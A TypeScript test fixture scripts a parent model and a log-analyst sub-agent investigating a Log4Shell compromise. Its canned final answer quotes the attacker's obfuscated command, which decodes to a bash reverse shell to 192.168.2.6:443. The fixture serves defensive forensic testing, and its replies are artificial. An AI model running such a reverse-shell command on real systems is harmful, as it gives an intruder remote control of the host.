import { scriptedModel } from 'kioku/test';

/** The request the scripted parent sends to logs_run. */
export const request = 'What did the web server UBUNTU5 run after the Log4Shell exploit?';

/** The scripted analyst's final answer. */
const answer =
  'tomcat\'s java spawned bash -c "{echo,…}|{base64,-d}|{bash,-i}", decoding to bash -i >& /dev/tcp/192.168.2.6/443 0>&1; bash then connected to 192.168.2.6:443.';

/** A sub-agent model that reads the schema, fails once, recovers, runs a runbook, pages, then answers. */
export function analystModel() {
  return scriptedModel({
    replies: [
      { toolCalls: [{ toolCallId: 's1', toolName: 'schema', input: {} }] },
      { toolCalls: [{ toolCallId: 's2', toolName: 'schema', input: { table: 'ubuntu5_auditd' } }] },
      {
        toolCalls: [
          { toolCallId: 'q1', toolName: 'query', input: { sql: 'select cmdline from ubuntu5_auditd' } },
        ],
      },
      { toolCalls: [{ toolCallId: 'r1', toolName: 'runbook', input: { name: 'service-account-commands-and-connections' } }] },
      {
        toolCalls: [
          { toolCallId: 'q2', toolName: 'query', input: { sql: 'select * from workstation5_sysmon' } },
        ],
      },
      {
        toolCalls: [
          { toolCallId: 'g1', toolName: 'get_result', input: { result_id: 'r2', offset: 3, limit: 2 } },
        ],
      },
      { text: answer },
    ],
  });
}

/** A parent model that calls logs_run once with {@link request}, then answers. */
export function parentModel() {
  return scriptedModel({
    replies: [
      { toolCalls: [{ toolCallId: 'p1', toolName: 'logs_run', input: { query: request } }] },
      { text: 'The web server was compromised.' },
    ],
  });
}

